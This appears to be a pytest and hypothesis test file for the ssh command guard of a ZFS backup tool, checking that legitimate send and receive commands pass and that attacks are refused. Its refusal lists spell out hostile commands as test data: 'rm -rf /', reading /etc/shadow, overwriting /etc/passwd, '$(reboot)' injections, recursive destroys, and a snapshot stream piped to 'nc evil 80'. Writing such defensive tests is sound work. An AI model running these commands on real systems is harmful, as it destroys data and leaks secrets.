"""`zmake serve`'s checks (guard/pipeline.py): every command a push or a pull issues
passes, as the client quotes it for ssh; mutations of those commands outside the rules are
refused."""

from __future__ import annotations

import inspect
import shlex
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.support.probe_answers import (
    NAMES_UNDER,
    ROOT,
    SOURCE,
    ProbeAnswers,
    passes,
    refused,
    under,
    wire,
)
from zmake.core.token import ResumeToken, encode
from zmake.guard.pipeline import Policy, Probe, Refusal, check, parse
from zmake.sides import zfs_argv
from zmake.sides.zfs_argv import COMPRESSORS, Argv

# --- everything zmake issues to each side -------------------------------------------------


def receive_side_commands(root: str, name: str) -> list[list[Argv]]:
    """Every command a push (send, umount, status, prune, backup) runs on the backup side."""
    parent = root.rpartition("/")[0] or root
    # zmake's receives are readonly=on; serve refuses the rest (test below)
    recvs = [zfs_argv.receive_argv(name, filesystem=fs, readonly=True) for fs in (True, False)]
    single = [
        zfs_argv.remote_dataset_argv(name),
        zfs_argv.backups_argv([name, f"{root}/other one"]),  # a batch's backups
        zfs_argv.remote_tree_argv(root),
        zfs_argv.datasets_argv([root, name]),
        # whether the tree's parent exists, by name only (targets/pool/parents.py)
        zfs_argv.datasets_argv([parent, root]),
        zfs_argv.datasets_argv([parent, parent]),
        zfs_argv.datasets_argv([parent]),
        zfs_argv.mounts_argv(root),
        zfs_argv.unmount_argv(name),
        zfs_argv.create_placeholder_argv(name),
        zfs_argv.unmark_placeholder_argv(name),
        zfs_argv.prune_list_argv(root),
        *recvs,
    ]
    piped = [[decompress, recv] for _, decompress in COMPRESSORS.values() for recv in recvs]
    return [[argv] for argv in single] + piped


def send_side_commands(root: str, name: str) -> list[list[Argv]]:
    """Every command a pull (send, snapshot, status, prune, backup) runs on the source side."""
    snap, older, mark = f"{name}@zmake-2", f"{name}@zmake-1", f"{name}#zmake-00ff-7"
    stale = f"{name}#zmake-nas.00ff-5"  # this target's older bookmark, as serve named it
    token = encode(ResumeToken(7, snap, 5, raw=False, flags=frozenset({"compressok"})))
    sends = [
        zfs_argv.stream_argv(snap, raw=False),
        zfs_argv.stream_argv(snap, raw=False, base=older),
        zfs_argv.stream_argv(snap, raw=False, base=older, between=False),
        zfs_argv.stream_argv(snap, raw=False, base=mark),
        zfs_argv.resume_argv(token),
    ]
    single = [
        zfs_argv.source_list_argv([root]),
        zfs_argv.source_get_argv([root, name]),
        zfs_argv.names_argv([root]),
        zfs_argv.local_dataset_argv(name),
        zfs_argv.local_datasets_argv([name, root]),  # a batch's sources
        zfs_argv.prune_list_argv(root),
        zfs_argv.snapshot_argv([root, name], "zmake-20261129-0100"),
        zfs_argv.bookmark_argv(snap, mark),
        zfs_argv.destroy_bookmark_argv(stale),
        *sends,
        *(zfs_argv.estimate_argv(send) for send in sends),
    ]
    piped = [[send, compress] for compress, _ in COMPRESSORS.values() for send in sends]
    return [[argv] for argv in single] + piped


def as_served(argv: Argv) -> Argv:
    """What serve runs for a receive of a filesystem without -o mountpoint: the stream's own
    mountpoint dropped (`-x mountpoint`); everything else as asked."""
    if (
        argv[:2] == ["zfs", "recv"]
        and "canmount=noauto" in argv
        and not any(w.startswith("mountpoint=") for w in argv)
    ):
        return [*argv[:-1], "-x", "mountpoint", argv[-1]]
    return argv


@given(NAMES_UNDER)
def test_every_command_of_a_push_passes_the_receiving_key(rest: str) -> None:
    policy = Policy("receive", ROOT)
    for stages in receive_side_commands(ROOT, under(ROOT, rest)):
        assert passes(policy, stages) == [as_served(stage) for stage in stages]


def as_served_send(argv: Argv) -> Argv:
    """A bookmark is made as this key's target's: `zmake-KEY-TXG` becomes `zmake-nas.KEY-TXG`."""
    if argv[:2] == ["zfs", "bookmark"]:
        return [*argv[:3], argv[3].replace("#zmake-", "#zmake-nas.")]
    return argv


@given(NAMES_UNDER)
def test_every_command_of_a_pull_passes_the_sending_key(rest: str) -> None:
    policy = Policy("send", SOURCE, target="nas")
    for stages in send_side_commands(SOURCE, under(SOURCE, rest)):
        assert passes(policy, stages) == [as_served_send(stage) for stage in stages]


def test_a_raw_send_of_an_encrypted_dataset_passes_and_a_plain_one_does_not() -> None:
    policy, zfs = Policy("send", SOURCE), ProbeAnswers(encrypted={f"{SOURCE}/secret"})
    snap = f"{SOURCE}/secret@zmake-2"
    for base in (None, f"{SOURCE}/secret@zmake-1", f"{SOURCE}/secret#zmake-00ff-7"):
        assert passes(policy, [zfs_argv.stream_argv(snap, raw=True, base=base)], zfs)
        plain = wire([zfs_argv.stream_argv(snap, raw=False, base=base)])
        assert "raw sends only" in refused(policy, plain, zfs)
    raw_token = encode(ResumeToken(7, snap, 0, raw=True))
    assert passes(policy, [zfs_argv.resume_argv(raw_token)], zfs)
    plain_token = encode(ResumeToken(7, snap, 0, raw=False))
    assert "non-raw token" in refused(policy, wire([zfs_argv.resume_argv(plain_token)]), zfs)


def test_pruning_and_rollback_only_when_the_key_allows_them() -> None:
    name = f"{ROOT}/a"
    prune = [zfs_argv.destroy_snapshots_argv(name, ["zmake-1"])]
    rollback = [zfs_argv.rollback_argv(f"{name}@zmake-2")]
    abort = [zfs_argv.abort_resume_argv(name)]
    strict = Policy("receive", ROOT)
    for stages in (prune, rollback, abort):
        assert "--allow-" in refused(strict, wire(stages))
    assert passes(Policy("receive", ROOT, allow_prune=True), prune) == prune
    wide = Policy("receive", ROOT, allow_rollback=True)
    assert passes(wide, rollback) == rollback and passes(wide, abort) == abort
    assert passes(Policy("send", SOURCE, allow_prune=True), [
        zfs_argv.destroy_snapshots_argv(SOURCE, ["zmake-1"])])  # fmt: skip


def test_force_only_over_a_placeholder_serve_checks_itself() -> None:
    name = f"{ROOT}/parent"
    forced = [zfs_argv.receive_argv(name, force=True)]
    policy = Policy("receive", ROOT)
    assert passes(policy, forced, ProbeAnswers(placeholders={name})) == [as_served(forced[0])]
    assert "not a placeholder" in refused(policy, wire(forced), ProbeAnswers())


def test_a_mountpoint_is_stripped_or_kept_within_the_prefix() -> None:
    name = f"{ROOT}/home"
    stages = [zfs_argv.receive_argv(name, mountpoint="/etc")]
    assert passes(Policy("receive", ROOT), stages) == [as_served(zfs_argv.receive_argv(name))]
    fenced = Policy("receive", ROOT, mountpoint_prefix="/backups")
    assert "outside /backups" in refused(fenced, wire(stages))
    escape = [zfs_argv.receive_argv(name, mountpoint="/backups/../etc")]
    assert "outside /backups" in refused(fenced, wire(escape))
    inside = [zfs_argv.receive_argv(name, mountpoint="/backups/lap top/home")]
    assert passes(fenced, inside) == inside
    for odd in ("/backups", "/backups/", "/backups/./x", "/backups//x", "/backupsx/y"):
        stages = [zfs_argv.receive_argv(name, mountpoint=odd)]
        assert "outside /backups" in refused(fenced, wire(stages))


def test_a_receive_without_readonly_is_refused() -> None:
    """Without the `readonly` permission zfs drops `-o readonly=on` silently; serve asks for it
    always (a writable backup is refused by `zfs allow --role receive`'s grant instead)."""
    for filesystem in (True, False):
        writable = [zfs_argv.receive_argv(f"{ROOT}/a", filesystem=filesystem, readonly=False)]
        assert "readonly" in refused(Policy("receive", ROOT), wire(writable))


def test_builders_are_all_classified() -> None:
    """A new builder must be added to one side's enumeration above (or marked local-only)."""
    local_only = {
        "send_argv",
        "recv_argv",
        "estimate_argv",
        "backup_list_argv",
        "abort_resume_argv",
        "rollback_argv",
        "destroy_snapshots_argv",
        "restore_recv_argv",
        "content_list_argv",
        "destroy_tree_argv",
        "pool_health_argv",
        "pool_status_argv",
        "facts_argv",
        "mark_argv",
    }  # fmt: skip  (the last two: serve's own probes)
    enumerated = set()
    for stages in receive_side_commands(ROOT, ROOT) + send_side_commands(SOURCE, SOURCE):
        enumerated |= {" ".join(stage) for stage in stages}
    builders = {
        name
        for name, function in inspect.getmembers(zfs_argv, inspect.isfunction)
        if name.endswith("_argv") and function.__module__ == zfs_argv.__name__
    }
    covered = {name for name in builders if name in inspect.getsource(receive_side_commands)
               or name in inspect.getsource(send_side_commands)}  # fmt: skip
    assert builders - covered - local_only == set()


# --- what must be refused -------------------------------------------------------------------

ATTACKS_ON_THE_BACKUP = [
    "zfs destroy -r backup/lap\\ top:1",
    "zfs destroy -r 'backup/lap top:1'",
    "zfs destroy 'backup/lap top:1/a@zmake-1'",
    "zfs rollback -r 'backup/lap top:1/a@zmake-1'",
    "zfs recv -F 'backup/lap top:1/a'",
    "zfs recv -u -s -F -o canmount=noauto -o readonly=on 'backup/lap top:1/a'",
    "zfs recv -A 'backup/lap top:1/a'",
    "zfs recv -u -s -o canmount=noauto -o readonly=on backup/other/a",
    "zfs recv -u -s -d 'backup/lap top:1'",
    "zfs recv -u -s -o canmount=noauto -o readonly=on -o mountpoint=/etc -o exec=on "
    "'backup/lap top:1/a'",
    "zfs send -w 'backup/lap top:1/a@zmake-1'",
    "zfs send -L -c backup/other@x",
    "zfs list -H -p -o name -r backup",
    "zfs list -r backup",
    "sh -c 'zfs destroy -r backup'",
    "zfs set readonly=off 'backup/lap top:1'",
    "zfs rename 'backup/lap top:1' backup/x",
    "zfs allow -u zrecv destroy 'backup/lap top:1'",
    "zfs unmount 'backup/lap top:1'; rm -rf /",
    "zfs unmount 'backup/lap top:1' && reboot",
    'zfs unmount "backup/lap top:1$(reboot)"',
    "zfs unmount 'backup/lap top:1' > /etc/passwd",
    "zfs unmount 'backup/lap top:1'\nreboot",
    "zfs unmount `reboot`",
    "cat /etc/shadow | zfs recv -u -s -o canmount=noauto -o readonly=on 'backup/lap top:1/a'",
    "",
    "zfs",
    shlex.join(zfs_argv.backups_argv(["backup/lap top:1/a", "backup/other"])),  # a batch
]


@pytest.mark.parametrize("attack", ATTACKS_ON_THE_BACKUP)
def test_attacks_on_a_receiving_key_are_refused(attack: str) -> None:
    refused(Policy("receive", ROOT), attack)


ATTACKS_ON_THE_SOURCE = [
    f"zfs destroy -r {shlex.quote(SOURCE)}",
    f"zfs destroy {shlex.quote(SOURCE + '@zmake-1')}",
    f"zfs destroy {shlex.quote(SOURCE + '#mine')}",
    "zfs send -L -c tank/other@x",
    "zfs send -L -c -R " + shlex.quote(SOURCE + "@zmake-1"),
    "zfs send -L -c -I tank/other@a " + shlex.quote(SOURCE + "@zmake-1"),
    "zfs send -t " + encode(ResumeToken(7, "tank/other@x", 0, raw=True)),
    "zfs send -t garbage",
    "zfs recv -F " + shlex.quote(SOURCE),
    "zfs rollback -r " + shlex.quote(SOURCE + "@zmake-1"),
    "zfs list -H -p -o name -r tank",
    "zfs snapshot -r tank@zmake-1",
    "zfs bookmark " + shlex.quote(SOURCE + "@zmake-1") + " " + shlex.quote(SOURCE + "#evil"),
    "sh -c id",
    "zfs send -L -c " + shlex.quote(SOURCE + "@zmake-1") + " | nc evil 80",
    shlex.join(zfs_argv.local_datasets_argv([SOURCE, "tank/other"])),  # a batch
]


@pytest.mark.parametrize("attack", ATTACKS_ON_THE_SOURCE)
def test_attacks_on_a_sending_key_are_refused(attack: str) -> None:
    refused(Policy("send", SOURCE), attack)


# --- mutations of accepted commands ---------------------------------------------------------

DANGEROUS_OPTIONS = ["-F", "-R", "-r", "-d", "-e", "-p", "-x", "-A", "-D", "-f", "-h",
                     "-o", "exec=on", "-x", "mountpoint", "--", "-v"]  # fmt: skip
SHELL_TAILS = ["; reboot", " && reboot", " || reboot", " $(reboot)", " `reboot`", " > /etc/x",
               " < /etc/shadow", "\nreboot", " & reboot", " | sh"]  # fmt: skip
OUTSIDE = ["backup/other", "backup", "backup/lap top:10", "rpool/ROOT", "tank"]


def mutate_option(argv: Argv, data: st.DataObject) -> Argv:
    option = data.draw(st.sampled_from(DANGEROUS_OPTIONS))
    at = data.draw(st.integers(2, len(argv)))
    return [*argv[:at], option, *argv[at:]]


def mutate_name(argv: Argv, data: st.DataObject, root: str) -> Argv:
    """Move every name of the tree elsewhere (a dataset of another host, the pool…)."""
    other = data.draw(st.sampled_from(OUTSIDE))
    return [word.replace(root, other) for word in argv]


def mutate_verb(argv: Argv, data: st.DataObject) -> Argv:
    verb = data.draw(st.sampled_from(["destroy", "rollback", "set", "rename", "promote",
                                      "allow", "inherit", "clone", "upgrade"]))  # fmt: skip
    return ["zfs", verb, *argv[2:]]


Mutation = Callable[[Argv, st.DataObject], Argv]


def mutated(stages: list[Argv], data: st.DataObject, root: str) -> str:
    how = data.draw(st.sampled_from(["option", "name", "verb", "shell"]))
    index = data.draw(st.integers(0, len(stages) - 1))
    stage = stages[index]
    if stage[0] != "zfs" or how == "shell":
        return wire(stages) + data.draw(st.sampled_from(SHELL_TAILS))
    if how == "option":
        new = mutate_option(stage, data)
    elif how == "name":
        new = mutate_name(stage, data, root)
    else:
        new = mutate_verb(stage, data)
    return wire([*stages[:index], new, *stages[index + 1 :]])


def refused_unless_still_zmakes(policy: Policy, text: str, allowed: list[list[Argv]]) -> None:
    """A mutation that happens to rebuild another accepted command is no attack, and passes;
    everything else must be refused."""
    try:
        still = parse(text) in allowed
    except Refusal:
        still = False
    if still:
        assert check(policy, parse(text), Probe(ProbeAnswers()))
    else:
        refused(policy, text)


ROLES = {"receive": (ROOT, receive_side_commands), "send": (SOURCE, send_side_commands)}


@pytest.mark.parametrize("role", ROLES)
@settings(max_examples=1500, deadline=None)  # a loaded CI machine is slow, not wrong
@given(rest=NAMES_UNDER, data=st.data())
def test_mutations_of_zmakes_commands_are_refused(
    role: str, rest: str, data: st.DataObject
) -> None:
    root, commands_of = ROLES[role]
    policy = Policy(role, root, target="nas")
    allowed = commands_of(root, under(root, rest))
    stages = data.draw(st.sampled_from(allowed))
    refused_unless_still_zmakes(policy, mutated(stages, data, root), allowed)
